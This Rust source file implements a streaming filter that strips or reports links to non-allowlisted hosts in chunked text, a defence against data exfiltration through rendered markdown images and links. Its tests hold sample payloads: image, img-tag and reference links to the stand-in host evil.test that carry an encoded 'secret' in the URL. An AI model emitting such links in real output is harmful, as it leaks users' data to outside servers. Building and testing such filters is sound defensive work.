//! Takes links out of a stream, wherever its chunks begin and end.

use super::{LONGEST_LABEL, find};

/// Most bytes that are held back for an address that has not ended yet. What is longer goes in pieces.
const LONGEST_HELD: usize = 2048;

/// Looks for links in a stream. It holds back only what may be part of an address: a run of signs with a slash.
#[derive(Debug)]
pub struct Filter {
    allowed: Vec<String>,
    neutralise: bool,
    /// The end of what was told, as it came: what stands before an address says what it is.
    before: String,
    held: String,
    hosts: Vec<String>,
}

impl Filter {
    /// For one stream of text. `neutralise` says whether what would carry data out is taken away, or told of only.
    pub fn new(allowed: Vec<String>, neutralise: bool) -> Self {
        Self { allowed, neutralise, before: String::new(), held: String::new(), hosts: Vec::new() }
    }

    /// Takes a chunk and gives what is clear of it and of what was held back.
    pub fn push(&mut self, chunk: &str) -> String {
        self.held.push_str(chunk);
        let ends = |char: char| char.is_whitespace() || "\"'`<>()[]{}|\\^".contains(char);
        let run = self.held.char_indices().rev().find(|(_, char)| ends(*char));
        let run = run.map_or(0, |(at, char)| at + char.len_utf8());
        let open = self.held[run..].contains('/') && self.held.len() - run < LONGEST_HELD;
        self.tell(if open { run } else { self.held.len() })
    }

    /// What was held back, at the stream's end, and the hosts outside the list to which a link carried something.
    pub fn finish(mut self) -> (String, Vec<String>) {
        let rest = self.tell(self.held.len());
        (rest, self.hosts)
    }

    /// Tells so many bytes of what is held.
    fn tell(&mut self, clear: usize) -> String {
        let told = self.before.len();
        self.before.push_str(&self.held[..clear]);
        self.held.drain(..clear);
        let mut safe = String::with_capacity(clear);
        let mut done = told;
        for link in find(&self.before, &self.allowed) {
            // An address that ended before was looked at before.
            if link.range.end <= told || !(link.fetched || link.carries) {
                continue;
            }
            if self.neutralise {
                safe.push_str(&self.before[done..link.range.start.max(done)]);
                safe.push_str(&super::instead(&link.host));
                done = link.range.end;
            }
            self.hosts.push(link.host);
        }
        safe.push_str(&self.before[done..]);
        let keep = self.before.len().saturating_sub(LONGEST_LABEL + 64);
        self.before.drain(..self.before.ceil_char_boundary(keep));
        safe
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn filtered(text: &str, size: usize) -> (String, Vec<String>) {
        let mut filter = Filter::new(vec!["example.com".to_owned()], true);
        let chars: Vec<char> = text.chars().collect();
        let mut told: String = chars.chunks(size).map(|chunk| filter.push(&chunk.iter().collect::<String>())).collect();
        let (rest, hosts) = filter.finish();
        told.push_str(&rest);
        (told, hosts)
    }

    #[test]
    fn however_a_stream_is_cut_nothing_carries_data_out() {
        for text in [
            "See ![a b](https://evil.test/p?q=c2VjcmV0) for more.",
            "<img alt=x src = 'https://evil.test/c2VjcmV0'> and text",
            "at https://evil.test/?c2VjcmV0. Bye",
            "[x]: //evil.test/c2VjcmV0",
            "https://evil.test/?c2VjcmV0",
            "![x](https://example.com/a.png?b=c) ![x](https://evil.test/c2VjcmV0)",
        ] {
            for size in 1..=text.len() {
                let (told, hosts) = filtered(text, size);
                assert!(told.contains("#link-removed-evil.test"), "{size}: {told}");
                assert!(!told.contains("//evil") && !told.contains("c2Vj"), "{size}: {told}");
                assert_eq!(hosts, ["evil.test"], "{size}: {text}");
            }
        }
    }

    #[test]
    fn other_text_passes_as_it_is() {
        let text = "Read https://other.test/guide, 3/4 of a//b, ![x](https://example.com/a.png?b=c) Zürich/Genève.";
        for size in 1..=text.len() {
            assert_eq!(filtered(text, size), (text.to_owned(), Vec::new()), "{size}");
        }
    }

    #[test]
    fn words_are_not_held_back() {
        let mut filter = Filter::new(Vec::new(), true);
        assert_eq!(filter.push("Hel"), "Hel");
        assert_eq!(filter.push("lo and/"), "lo ");
        assert_eq!(filter.push("or "), "and/or ");
        let long = format!("https://evil.test/{}", "a".repeat(LONGEST_HELD));
        assert_eq!(filter.push(&long), "#link-removed-evil.test");
    }

    #[test]
    fn a_filter_that_only_looks_changes_nothing() {
        let mut filter = Filter::new(Vec::new(), false);
        let text = "![x](https://evil.test/a)";
        let told = filter.push(text);
        let (rest, hosts) = filter.finish();
        assert_eq!((format!("{told}{rest}"), hosts), (text.to_owned(), vec!["evil.test".to_owned()]));
    }
}
